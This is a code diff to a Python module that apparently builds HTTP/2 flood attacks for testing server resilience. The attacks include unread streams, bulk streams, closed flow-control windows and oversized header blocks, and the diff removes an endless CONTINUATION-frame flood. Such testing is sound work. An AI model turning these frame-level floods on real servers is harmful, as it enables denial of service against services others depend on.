@@ -6,7 +6,7 @@ from collections.abc import Callable, Iterable
 from functools import cache
 from itertools import chain, repeat
 
-from flood_http1 import HEADS, KIB
+from flood_http1 import BULK_PATH, HEADS, KIB
 from flood_swarm import HOST, Attack, Script, Step
 
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
@@ -91,7 +91,7 @@ def size_of(make: Callable[[int], bytes]) -> int:
     return len(make(1))
 
 
-def _by_stream(
+def by_stream(
     name: str, item: str, make: Callable[[int], bytes], *, batch: int = _BATCH, **options: object
 ) -> Attack:
     options.setdefault("counted", options.get("reads", True))
@@ -100,24 +100,24 @@ def _by_stream(
 
 def unread() -> list[Attack]:
     """Item 1: nothing of the answers is ever read."""
-    refused, large = block(b"/", b"x"), block(b"/v1/users/60k")
+    refused, large = block(b"/", b"x"), block(BULK_PATH + b"/60k")
     ping = frame(PING, 0, 0, b"attacker")
     return [
-        _by_stream("unread-refused", "1", lambda stream: headers(stream, refused), reads=False),
-        _by_stream("unread-proxied", "1", lambda stream: headers(stream, large), reads=False),
+        by_stream("unread-refused", "1", lambda stream: headers(stream, refused), reads=False),
+        by_stream("unread-proxied", "1", lambda stream: headers(stream, large), reads=False),
         Attack("unread-pings", "1", "h2", on_connection(ping), len(ping), "frame", reads=False),
     ]
 
 
 def bulk() -> list[Attack]:
     """Item 2: more work in one go than others should have to wait for."""
-    refused, limited = block(b"/", b"x"), block()
-    post = headers(1, block(method=b"\x83"), end=False)
+    refused, limited = block(b"/", b"x"), block(BULK_PATH)
+    upload = headers(1, block(), end=False)
     small = frame(DATA, 0, 1, b"hello")
     return [
-        _by_stream("bulk-refused", "2", lambda stream: headers(stream, refused)),
-        _by_stream("bulk-streams", "2", lambda stream: headers(stream, limited)),
-        Attack("bulk-data", "2", "h2", on_connection(small, opening() + post), len(small), "frame"),
+        by_stream("bulk-refused", "2", lambda stream: headers(stream, refused)),
+        by_stream("bulk-streams", "2", lambda stream: headers(stream, limited)),
+        Attack("bulk-data", "2", "h2", on_connection(small, opening() + upload), len(small), "frame"),
     ]
 
 
@@ -137,7 +137,7 @@ def shut_windows(target: bytes, pause: float) -> Script:
 def windows() -> list[Attack]:
     """Item 5: answers that are asked for and not taken."""
     return [
-        Attack(f"windows-{name}", "5", "h2", shut_windows(b"/v1/users/" + name.encode(), 0.5), 75)
+        Attack(f"windows-{name}", "5", "h2", shut_windows(BULK_PATH + b"/" + name.encode(), 0.5), 75)
         for name in ("60k", "250k")
     ]
 
@@ -170,15 +170,4 @@ def field_blocks() -> list[Attack]:
 
 
 def _large(name: str, item: str, fields: bytes) -> Attack:
-    return _by_stream(name, item, lambda stream: headers(stream, fields), batch=4, allowance=32 * KIB)
-
-
-def endless_continuation() -> list[Attack]:
-    """A field block without an end."""
-    begin = opening() + frame(HEADERS, END_STREAM, 1, block())
-    piece = frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 100) * 8)
-    nothing = frame(CONTINUATION, 0, 1)
-    return [
-        Attack("continuation", "floods", "h2", on_connection(piece, begin), len(piece), "frame", allowance=32 * KIB),
-        Attack("continuation-empty", "floods", "h2", on_connection(nothing, begin), len(nothing), "frame"),
-    ]
+    return by_stream(name, item, lambda stream: headers(stream, fields), batch=4, allowance=32 * KIB)
